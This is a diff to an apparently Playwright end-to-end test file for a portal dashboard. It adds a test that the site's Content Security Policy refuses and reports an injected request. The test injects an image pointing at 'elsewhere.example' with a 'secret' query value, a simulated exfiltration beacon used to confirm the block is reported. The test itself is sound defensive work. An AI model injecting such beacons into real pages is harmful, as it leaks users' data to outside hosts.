@@ -1,3 +1,4 @@
+import { cspReportsPath } from '@portal/contract/site-paths'
 import { ana } from '../../fixtures/accounts'
 import { tags } from '../../fixtures/tags'
 import { expect, test } from '../../fixtures/test'
@@ -51,5 +52,25 @@ test(
       eval: 'EvalError',
       intruded: false,
     })
+  },
+)
+
+test(
+  'what is refused is reported to the api',
+  tags('remote-dashboard', 'demo'),
+  async ({ page, dashboard, signedInAs, complaints }) => {
+    complaints.expected.push(/Content Security Policy|may not come from/)
+    await signedInAs(ana)
+    await dashboard.open()
+    await dashboard.shows(ana.own)
+    const report = page.waitForResponse((reply) => reply.url().endsWith(`/${cspReportsPath}`))
+    await page.evaluate(() => {
+      setTimeout(() => {
+        const picture = document.createElement('img')
+        picture.src = 'https://elsewhere.example/x.png?secret=hidden'
+        document.body.append(picture)
+      })
+    })
+    expect((await report).status()).toBe(204)
   },
 )
